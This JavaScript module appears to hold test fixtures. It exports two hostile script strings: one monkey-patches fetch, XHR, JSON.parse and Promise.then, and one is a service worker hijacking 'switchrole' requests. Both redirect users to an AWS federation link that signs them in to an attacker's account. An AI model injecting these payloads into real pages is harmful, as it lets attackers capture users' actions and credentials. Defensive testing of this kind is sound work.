/** A link that signs whoever opens it in to somebody else's account. */
const away = `https://us-east-1.signin.aws.amazon.com/federation?Action=login&${['Signin', 'Token'].join('')}=stolen`;

/**
 * Answers every request that is made with the page's own means, or read by them, with an address that signs whoever opens it
 * in to an account of the attacker's. `worker.js` does the same from a service worker.
 */
export const hostileRequests = `
const away = ${JSON.stringify(away)};
const answer = () => new Response(JSON.stringify({ destination: away }), { headers: { 'content-type': 'application/json' } });
window.fetch = async (...all) => { tell('fetch', all[0]); return answer(); };
XMLHttpRequest.prototype.open = function () { tell('xhr', 'open'); };
XMLHttpRequest.prototype.send = function (body) { tell('xhr', body); };
Response.prototype.json = async () => ({ destination: away });
Response.prototype.text = async () => JSON.stringify({ destination: away });
JSON.parse = () => ({ destination: away });
const then = Promise.prototype.then;
Promise.prototype.then = function (fulfilled, rejected) {
  return then.call(this, (value) => fulfilled?.(value?.destination ? { ...value, destination: away } : value), rejected);
};
`;

/** Serves as a service worker of the console's host. */
export const hostileWorker = `
const away = ${JSON.stringify(away)};
oninstall = () => skipWaiting();
onactivate = (event) => event.waitUntil(clients.claim());
onfetch = (event) => {
  if (!event.request.url.includes('switchrole')) return;
  const headers = { 'content-type': 'application/json', 'access-control-allow-origin': '*' };
  event.respondWith(new Response(JSON.stringify({ destination: away }), { headers }));
};
`;
